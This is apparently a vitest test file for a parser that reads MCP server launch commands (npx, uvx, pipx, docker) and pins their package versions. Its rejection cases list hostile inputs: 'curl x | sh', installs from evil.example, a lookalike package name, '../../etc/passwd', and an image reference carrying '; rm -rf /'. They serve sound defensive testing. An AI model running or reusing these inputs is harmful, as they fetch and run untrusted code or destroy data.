import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readLaunch } from '../../activities/bump/launch.ts';
import { argumentWith } from '../../activities/bump/mcp-config.ts';

const digest = `sha256:${'a'.repeat(64)}`;

/** What is started, and how the argument reads with version 9.8.7 in it. */
const packages: [line: string[], found: object, pinned: string][] = [
  [['npx', '@acme/mcp@1.4.2'], { launcher: 'npx', package: '@acme/mcp', version: '1.4.2' }, '@acme/mcp@9.8.7'],
  [['npx', '-y', 'mcp-tool@1.4.2', '--port', '1'], { package: 'mcp-tool', version: '1.4.2' }, 'mcp-tool@9.8.7'],
  [['npx', '--yes', 'mcp-tool'], { package: 'mcp-tool', version: undefined }, 'mcp-tool@9.8.7'],
  [['npx', '-y', '@acme/mcp'], { package: '@acme/mcp', version: undefined, floating: undefined }, '@acme/mcp@9.8.7'],
  [['npx', 'mcp-tool@latest'], { version: undefined, floating: 'latest' }, 'mcp-tool@9.8.7'],
  [['npx', 'mcp-tool@^1.2.0'], { version: undefined, floating: '^1.2.0' }, 'mcp-tool@9.8.7'],
  [['npx', 'mcp-tool@2025.7.01'], { version: '2025.7.1' }, 'mcp-tool@9.8.7'],
  [
    ['npx', '--package=@acme/mcp@1.4.2', 'mcp'],
    { package: '@acme/mcp', version: '1.4.2' },
    '--package=@acme/mcp@9.8.7',
  ],
  [['npx', '-p', '@acme/mcp@1.4.2', '--', 'mcp'], { package: '@acme/mcp', version: '1.4.2' }, '@acme/mcp@9.8.7'],
  [['npx', '-y', '--', 'mcp-tool@1.0.0'], { package: 'mcp-tool', version: '1.0.0' }, 'mcp-tool@9.8.7'],
  [['npx', '--cache', '/tmp/c', 'mcp-tool@1.0.0'], { package: 'mcp-tool', version: '1.0.0' }, 'mcp-tool@9.8.7'],
  [['/usr/bin/npx', 'mcp-tool@1.0.0'], { launcher: 'npx' }, 'mcp-tool@9.8.7'],
  [['C:\\node\\npx.CMD', 'mcp-tool@1.0.0'], { launcher: 'npx' }, 'mcp-tool@9.8.7'],
  [['cmd', '/c', 'npx', '-y', 'mcp-tool@1.0.0'], { launcher: 'npx', argIndex: 3 }, 'mcp-tool@9.8.7'],
  [['npm', 'exec', '-y', 'mcp-tool@1.0.0'], { launcher: 'npm exec', argIndex: 2 }, 'mcp-tool@9.8.7'],
  [['pnpm', 'dlx', 'mcp-tool@1.0.0'], { launcher: 'pnpm dlx' }, 'mcp-tool@9.8.7'],
  [['bunx', 'mcp-tool@1.0.0'], { launcher: 'bunx' }, 'mcp-tool@9.8.7'],
  [
    ['uvx', 'mcp-server-git'],
    { ecosystem: 'pypi', package: 'mcp-server-git', version: undefined },
    'mcp-server-git@9.8.7',
  ],
  [['uvx', 'mcp-server-git@2025.9.25'], { version: '2025.9.25' }, 'mcp-server-git@9.8.7'],
  [['uvx', 'mcp-server-git==2025.9.25'], { version: '2025.9.25' }, 'mcp-server-git==9.8.7'],
  [['uvx', 'mcp-server-git@latest'], { version: undefined, floating: 'latest' }, 'mcp-server-git@9.8.7'],
  [
    ['uvx', '--from', 'Mcp_Server.Git==1.0', 'git'],
    { package: 'mcp-server-git', version: '1.0' },
    'Mcp_Server.Git==9.8.7',
  ],
  [['uvx', '--from=pkg[cli]>=1.0,<2', 'x'], { package: 'pkg', floating: '>=1.0,<2' }, '--from=pkg[cli]==9.8.7'],
  [['uvx', '--from', 'pkg', 'x'], { package: 'pkg', version: undefined }, 'pkg==9.8.7'],
  [['uvx', '-p', '3.12', '--with', 'other', 'pkg'], { package: 'pkg' }, 'pkg@9.8.7'],
  [['uv', 'tool', 'run', 'pkg@1.0'], { launcher: 'uvx', version: '1.0', argIndex: 2 }, 'pkg@9.8.7'],
  [['pipx', 'run', 'pkg==1.0'], { launcher: 'pipx', version: '1.0' }, 'pkg==9.8.7'],
  [['pipx', 'run', '--spec', 'pkg==1.0', 'cmd'], { launcher: 'pipx', version: '1.0' }, 'pkg==9.8.7'],
  [
    ['docker', 'run', '-i', '--rm', '-e', 'TOKEN', 'registry.example:5000/acme/mcp:1.4.2', 'serve'],
    { launcher: 'docker', ecosystem: 'oci', package: 'registry.example:5000/acme/mcp', version: '1.4.2' },
    'registry.example:5000/acme/mcp:9.8.7',
  ],
  [['docker', 'run', '-itv/a:/b', 'acme/mcp'], { package: 'acme/mcp', version: undefined }, 'acme/mcp:9.8.7'],
  [['docker', 'run', '--env=A=b', 'acme/mcp:latest'], { floating: 'latest', version: undefined }, 'acme/mcp:9.8.7'],
  [['podman', 'run', `acme/mcp:1.0@${digest}`], { launcher: 'podman', version: '1.0', digest }, 'acme/mcp:9.8.7'],
  [['docker', 'container', 'run', `acme/mcp@${digest}`], { version: undefined, digest }, 'acme/mcp:9.8.7'],
];

const unclear: [line: string[], why: RegExp][] = [
  [['npx'], /name no package/],
  [['npx', '-c', 'curl x | sh'], /something else/],
  [['npx', '--registry=http://evil.example', 'mcp-tool@1.0.0'], /something else/],
  [['npx', '--mystery', 'value', 'mcp-tool'], /not known here/],
  [['npx', '-p'], /without its value/],
  [['npx', '-p', 'a@1.0.0', '-p', 'b@1.0.0', 'a'], /more than one package/],
  [['npx', 'github:acme/mcp'], /not the name of a package/],
  [['npx', './local'], /not the name of a package/],
  [['npx', 'alias@npm:other@1.0.0'], /somewhere else/],
  [['npx', 'mcp-tool@https://evil.example/x.tgz'], /somewhere else/],
  [['npx', 'mcp-tооl@1.0.0'], /not the name of a package/],
  [['npx', '../../etc/passwd'], /not the name of a package/],
  [['npx', `@a/${'b'.repeat(300)}`], /not the name of a package/],
  [['uvx', '--from', 'git+https://evil.example/x', 'x'], /in a form that can be pinned/],
  [['uvx', '--index-url', 'http://evil.example', 'pkg'], /something else/],
  [['uvx', 'pkg @ https://evil.example/x.whl'], /in a form that can be pinned/],
  [['pipx', 'run', '--pip-args=--index-url=http://evil.example', 'pkg'], /something else/],
  [['docker', 'run', '--rm'], /name no image/],
  [['docker', 'run', 'UPPER/Case:1'], /not an image reference/],
  [['docker', 'run', 'acme/mcp:1.0; rm -rf /'], /not an image reference/],
];

describe('the launch of an entry', () => {
  it.each(packages)('%j is understood and can be pinned', ([command = '', ...args], found, pinned) => {
    const read = readLaunch(command, args);
    if (read.kind !== 'package') throw new Error(`not a package: ${read.why}`);
    expect({ version: undefined, floating: undefined, ...read.launch }).toMatchObject(found);
    expect(argumentWith(read.launch, args[read.launch.argIndex] ?? '', '9.8.7')).toBe(pinned);
  });

  it.each(unclear)('%j is not guessed at', ([command = '', ...args], why) => {
    expect(readLaunch(command, args)).toMatchObject({ kind: 'unclear', why: expect.stringMatching(why) });
  });

  it.each([[['node', 'server.js']], [['python', '-m', 'x']], [['/opt/mcp/server']], [['docker', 'compose', 'up']]])(
    '%j is no package',
    ([command = '', ...args]) => {
      expect(readLaunch(command, args).kind).toBe('other');
    },
  );

  it('reads its own pin back, whatever the arguments around it', () => {
    const name = fc.stringMatching(/^(@[a-z][a-z0-9-]{0,8}\/)?[a-z][a-z0-9-]{0,12}$/);
    const version = fc.tuple(fc.nat(99), fc.nat(99), fc.nat(99)).map((parts) => parts.join('.'));
    const tail = fc.array(fc.string(), { maxLength: 4 });
    fc.assert(
      fc.property(name, version, version, tail, (packageName, from, to, rest) => {
        const args = ['-y', `${packageName}@${from}`, ...rest];
        const read = readLaunch('npx', args);
        if (read.kind !== 'package') throw new Error(read.why);
        const pinned = argumentWith(read.launch, args[1] ?? '', to);
        expect(readLaunch('npx', ['-y', pinned, ...rest])).toMatchObject({
          launch: { package: packageName, version: to },
        });
      }),
    );
  });

  it('never throws, and answers hostile arguments quickly', () => {
    const word = fc.oneof(fc.string(), fc.stringMatching(/^[-@a-z0-9=:./[\]]{0,40}$/), fc.constant('a-'.repeat(5_000)));
    const command = fc.constantFrom('npx', 'uvx', 'docker', 'pipx', 'cmd', 'npm');
    fc.assert(
      fc.property(command, fc.array(word, { maxLength: 6 }), (program, args) => {
        expect(['package', 'other', 'unclear']).toContain(readLaunch(program, args).kind);
      }),
    );
  });
});
